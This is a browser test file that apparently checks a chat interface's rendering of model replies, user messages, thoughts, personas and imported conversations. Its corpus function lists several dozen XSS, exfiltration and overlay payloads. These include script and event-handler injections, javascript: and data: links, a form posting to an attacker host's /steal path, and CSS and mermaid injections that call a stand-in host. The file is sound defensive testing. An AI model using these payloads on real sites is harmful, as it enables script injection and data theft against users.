"""Whatever a model or a user writes, nothing of it runs, leaves the machine, or lies over the page."""

import base64
import json
from collections.abc import Callable

import pytest
from playwright.sync_api import Browser, expect

from chatui.chat import ReplyDelta
from tests.browser.pages import PATIENCE, Chat, Listener, wait_until
from tests.fakes import Script

pytestmark = pytest.mark.browser
Open = Callable[..., Chat]

PWN = "window.pwned=1;alert(1)"
PAGE = f"<script>parent.pwned=1;top.pwned=1;{PWN}</script>"
DATA = "data:text/html;base64," + base64.b64encode(PAGE.encode()).decode()


def corpus(host: str) -> list[str]:
    """Replies and messages of an attacker whose server is `host`."""
    evil = f"http://{host}"
    return [
        f"<script>{PWN}</script>",
        f'<script src="{evil}/x.js"></script>',
        f"<img src=x onerror='{PWN}'>",
        f"<img src={evil}/a.png onload='{PWN}'>",
        f"<svg onload='{PWN}'><animate onbegin='{PWN}' attributeName=x dur=1s><script>{PWN}</script></svg>",
        f"<svg><use href='{DATA}#x'></use><image href='{evil}/s.png'></image></svg>",
        f"<iframe src='javascript:{PWN}'></iframe><iframe src='{evil}/f'></iframe><iframe src='{DATA}'></iframe>",
        f"<iframe srcdoc='{PAGE}'></iframe>",
        f"[click](javascript:{PWN}) [c](JaVaScRiPt:{PWN}) [d](java&#115;cript:{PWN}) [e](<javascript:{PWN}>)",
        f"<a href='javascript:{PWN}' id=send>x</a> <a href=' &#106;avascript:{PWN}'>y</a>",
        f"[data]({DATA}) <a href='{DATA}'>data</a> ![d]({DATA})",
        f"<form action='{evil}/steal'><input name=q value=1><button>Send</button></form>",
        f"<button formaction='javascript:{PWN}' onclick='{PWN}'>Send</button><input autofocus onfocus='{PWN}'>",
        f"![pixel]({evil}/p.png) ![ref][r]\n\n[r]: {evil}/ref.png",
        f"<img src='{evil}/i.png' srcset='{evil}/i2.png 2x'><picture><source srcset={evil}/s.webp><img></picture>",
        f"<video src={evil}/v.mp4 autoplay poster={evil}/p.jpg></video><audio src={evil}/a.mp3 autoplay></audio>",
        f"<div style='position:fixed;inset:0;z-index:99999;background:url({evil}/b.png)'>Log in again</div>",
        "<div style='position:absolute;top:-5000px;left:-5000px;width:20000px;height:20000px;z-index:9'>x</div>",
        f"<style>@import '{evil}/c.css'; body{{background:url({evil}/bg.png)}} #message{{display:none}}</style>",
        f"<link rel=stylesheet href={evil}/l.css><link rel=prefetch href={evil}/l2><link rel=icon href={evil}/i>",
        f"<meta http-equiv=refresh content='0;url={evil}/m'><meta http-equiv=refresh content='0;url={DATA}'>",
        f"<base href='{evil}/'><base target=_top>",
        f'```mermaid\ngraph TD\nA["<img src=x onerror={PWN}>"]-->B\nclick A "javascript:{PWN}"\n'
        f'click B href "{evil}/mm" _self\n```',
        "```mermaid\n%%{init: {'themeCSS': '} #message{display:none} * {position:fixed;inset:0;z-index:9999} "
        f"@import url({evil}/t.css); .x{{background:url({evil}/t.png)', 'securityLevel': 'loose'}}}}%%\n"
        f"graph TD\nA[<img src={evil}/mi.png onerror={PWN}>]-->B\n```",
        f"$$\\href{{javascript:{PWN}}}{{x}}$$ \\(\\url{{javascript:{PWN}}}\\) $$\\includegraphics{{{evil}/k.png}}$$ "
        f"$$\\htmlData{{x=1}}{{y}} \\htmlStyle{{position:fixed}}{{z}}$$",
        f"<object data='{evil}/o'></object><object data='{DATA}'></object><embed src='{evil}/e'>",
        f"<div onclick='{PWN}' onmouseover='{PWN}' onpointerenter='{PWN}'>hover</div><details ontoggle='{PWN}' open>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={PWN}&gt;'>",
        f"<noscript><p title='</noscript><img src=x onerror={PWN}>'></noscript>",
        f"<template><script>{PWN}</script></template><xmp><img src=x onerror={PWN}></xmp><plaintext>",
        f"`</code><img src=x onerror={PWN}>` ```\n</pre><script>{PWN}</script>\n```",
        f"```html\n</code></pre><img src=x onerror={PWN}>\n```\n```<img/src=x/onerror={PWN}>\ninfo\n```",
        f"[x](//{host}/slashes) [y]({evil}/plain) <{evil}/auto> {evil}/bare www.{host}",
        f"&lt;img src=x onerror={PWN}&gt; &#60;script&#62;{PWN}&#60;/script&#62; &#0060;img src=x onerror={PWN}&#0062;",
        f"&#0060;script>{PWN}&#0060;/script> &#x3c;img src=x onerror={PWN}>",
        f"| a |\n|---|\n| <img src=x onerror={PWN}> |\n\n[^1]: <script>{PWN}</script>",
        f'![x](x"onerror="{PWN}) [x](x \'y" onmouseover="{PWN}\')',
        f"<gradio-app src={evil}></gradio-app><x-y is=z onclick={PWN}></x-y><slot onslotchange={PWN}>",
        f"</div></div></div><div id=message class=sidebar><textarea>{evil}</textarea></div>",
        f"\x00<scr\x00ipt>{PWN}</script> <<script>script>{PWN}</script> <img\nsrc=x\nonerror={PWN}\n>",
        f"<think><img src=x onerror={PWN}></think> <|im_end|><img src=x onerror={PWN}>",
    ]


def _pieces(text: str, size: int = 3) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


def _is_harmless(page: Chat, foreign: Listener, payload: str, url: str) -> None:
    """Nothing happened that the page's owner would not want."""
    title = payload[:300]
    assert page.watch.dialogs == [], title
    assert page.page.evaluate("window.pwned") is None, title
    assert foreign.seen == [], title
    assert page.watch.foreign(page.site) == [], title
    assert page.page.url.partition("?")[0] == url, title
    assert [frame.url.partition("?")[0] for frame in page.page.frames] == [url], title
    assert len(page.page.context.pages) == 1, title
    # A link with the protocol ":" has an address that is none, and leads nowhere.
    found = page.page.evaluate(
        """() => {
          const log = document.querySelector('[role=log]');
          const bad = 'form, iframe, object, embed, script, style:not(svg[id^=mermaid] style), link, meta, base, ' +
            'video, audio, template, [srcdoc]';
          const events = [...log.querySelectorAll('[data-testid=bot] *, [data-testid=user] *')].flatMap(
            e => [...e.attributes].filter(a => a.name.startsWith('on')).map(a => a.name));
          const links = [...log.querySelectorAll('a[href]')].map(a => a.protocol)
            .filter(p => !['http:', 'https:', 'mailto:', ':'].includes(p));
          const inside = '[data-testid=bot] .message-content, [data-testid=user] .message-content';
          const elements = [...log.querySelectorAll(inside)]
            .flatMap(e => [...e.querySelectorAll(bad)].map(b => b.tagName));
          return {events, links, elements};
        }"""
    )
    assert found == {"events": [], "links": [], "elements": []}, title
    covered = page.page.evaluate(
        """() => ['#message textarea', '#message button', '#settings .toggle-button'].filter(selector => {
          const element = document.querySelector(selector), box = element.getBoundingClientRect();
          const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
          return !element.contains(top) && !top?.contains(element);
        })"""
    )
    assert covered == [], title


@pytest.fixture
def evil(foreign: Listener) -> list[str]:
    return corpus(foreign.host)


def test_the_listener_sees_who_visits(browser: Browser, foreign: Listener) -> None:
    """Without this the tests below could not fail."""
    page = browser.new_page()
    page.set_content(f"<img src='http://{foreign.host}/seen.png'>")
    wait_until(lambda: foreign.seen, what="a visit")
    assert foreign.seen[0].startswith("GET /seen.png")
    page.close()


WAYS = ("replies", "replies in pieces", "messages", "thoughts")


def test_a_stored_corpus_is_harmless(chat: Open, foreign: Listener, evil: list[str]) -> None:
    """All of it at once as messages, replies and thoughts: a conversation that is brought in and opened."""
    evil = [payload.replace("\x00", "") for payload in evil]
    conversation = [
        {"role": role, "content": payload} | ({} if role == "user" else {"thinking": payload})
        for payload in evil
        for role in ("user", "assistant")
    ]
    page = chat(fresh=True)
    url = page.page.url.partition("?")[0]
    file = json.dumps([{"title": "the corpus", "messages": conversation}]).encode()
    chosen = page.page.locator("#conversations input[type=file]")
    chosen.set_input_files({"name": "x.json", "mimeType": "application/json", "buffer": file})
    page.page.get_by_role("link", name="the corpus", exact=True).click()
    expect(page.questions).to_have_count(len(evil), timeout=PATIENCE)
    thoughts = page.log.locator(".thought-group .title")
    expect(thoughts).to_have_count(len(evil))
    thoughts.evaluate_all("titles => titles.forEach(title => title.click())")
    expect(page.log.locator(".thought-group .content").last).to_be_visible()
    page.page.evaluate("document.querySelectorAll('[data-testid=toast-close]').forEach(close => close.click())")
    expect(page.page.get_by_test_id("toast-body")).to_have_count(0)
    _is_harmless(page, foreign, "the corpus", url)


@pytest.mark.parametrize(
    ("way", "every"),
    [
        ("replies in pieces", 12),
        *(pytest.param(way, 1, marks=pytest.mark.exhaustive) for way in WAYS),
    ],
)
def test_corpus_is_harmless(chat: Open, foreign: Listener, evil: list[str], way: str, every: int) -> None:
    evil = evil[::every]
    scripts: list[Script]
    if way == "replies":
        scripts = [[payload, " END"] for payload in evil]
    elif way == "replies in pieces":
        scripts = [[*_pieces(payload), " END"] for payload in evil]
    elif way == "thoughts":
        scripts = [[*(ReplyDelta(reasoning=piece) for piece in _pieces(payload, 40)), " END"] for payload in evil]
    else:
        scripts = [["END"]]
    page = chat(*scripts, rate=120 if way == "replies in pieces" else 1000)
    url = page.page.url.partition("?")[0]
    for number, payload in enumerate(evil):
        page.say(payload.replace("\x00", "") if way == "messages" else f"number {number}")
        if way == "thoughts":
            page.log.get_by_role("button", name="Thought for").last.click()
        _is_harmless(page, foreign, payload, url)
        if number % 10 == 9:
            page.start_new_chat()
            expect(page.questions).to_have_count(0)
    page.page.wait_for_timeout(300)
    _is_harmless(page, foreign, "the last ones", url)


def test_hovering_and_clicking_on_the_corpus_runs_nothing(chat: Open, foreign: Listener, evil: list[str]) -> None:
    """Everything that can be clicked in the log is clicked, but links to other hosts: those may be followed."""
    chosen = [payload for payload in evil if "javascript:" in payload or DATA in payload or "hover" in payload]
    page = chat(["\n\n".join(chosen), " END"])
    page.say("show")
    page.page.evaluate(
        """() => document.querySelectorAll('[data-testid=bot] *').forEach(e => {
          if (e.closest('a') && /^https?:/.test(e.closest('a').href)) return;
          for (const kind of ['pointerenter', 'mouseover', 'focus', 'click'])
            e.dispatchEvent(new MouseEvent(kind, {bubbles: true, cancelable: true}));
        })"""
    )
    page.page.wait_for_timeout(500)
    assert page.watch.dialogs == []
    assert page.page.evaluate("window.pwned") is None
    assert foreign.seen == []
    assert len(page.page.context.pages) == 1


def test_links_open_in_a_page_that_cannot_reach_back(chat: Open, foreign: Listener) -> None:
    page = chat([f"[text](http://{foreign.host}/a) and <http://{foreign.host}/b>"])
    links = page.say("link").get_by_role("link")
    expect(links).to_have_count(2)
    for link in links.all():
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in (link.get_attribute("rel") or "")
    assert foreign.seen == []


@pytest.mark.exhaustive  # test_personas.py has one, the test above the same texts as messages
def test_a_hostile_persona_is_harmless(chat: Open, foreign: Listener, evil: list[str]) -> None:
    page = chat(fresh=True)
    url = page.page.url.partition("?")[0]
    persona = "\n".join(evil).replace("\x00", "")
    page.setting("System prompt").fill(persona)
    page.say("hi")
    assert page.backend.requests[0].messages[0].content == persona.strip()
    _is_harmless(page, foreign, "persona", url)


def test_hostile_text_comes_back_from_undo_and_edit_harmless(chat: Open, foreign: Listener, evil: list[str]) -> None:
    page = chat(["ok"])
    url = page.page.url.partition("?")[0]
    text = "\n\n".join(evil).replace("\x00", "")
    page.say(text)
    page.button("Edit").click()
    expect(page.log.get_by_role("textbox")).to_have_value(text)
    page.button("Cancel").click()
    page.button("Undo").click()
    expect(page.box).to_have_value(text)
    _is_harmless(page, foreign, "undo", url)


@pytest.mark.parametrize(
    "options",
    [
        pytest.param({}, id="light", marks=pytest.mark.exhaustive),
        pytest.param({"color_scheme": "dark"}, id="dark"),
        pytest.param(
            {"viewport": {"width": 390, "height": 844}, "has_touch": True, "is_mobile": True},
            id="phone",
            marks=pytest.mark.exhaustive,
        ),
    ],
)
def test_no_request_leaves_and_no_error_is_logged(chat: Open, options: dict[str, object]) -> None:
    page = chat(
        ["# Hi\n\n```python\nx = 1\n```\n\n$$x^2$$ **bold** 中文 😀\n\n```mermaid\ngraph TD\nA-->B\n```"],
        fresh=True,
        **options,
    )
    page.say("hello")
    # Gradio itself logs an error when the message goes while its diagram is being drawn.
    expect(page.log.locator(".mermaid svg")).to_be_visible(timeout=PATIENCE)
    page.button("Retry").click()
    expect(page.log.get_by_text("2/2")).to_be_visible()
    page.answered()
    expect(page.log.locator(".mermaid svg")).to_be_visible(timeout=PATIENCE)
    hosts = {request.url.split("/")[2] for request in page.watch.requests if request.url.startswith(("http", "ws"))}
    assert hosts == {page.site.url.split("/")[2]}
    assert page.watch.errors == []
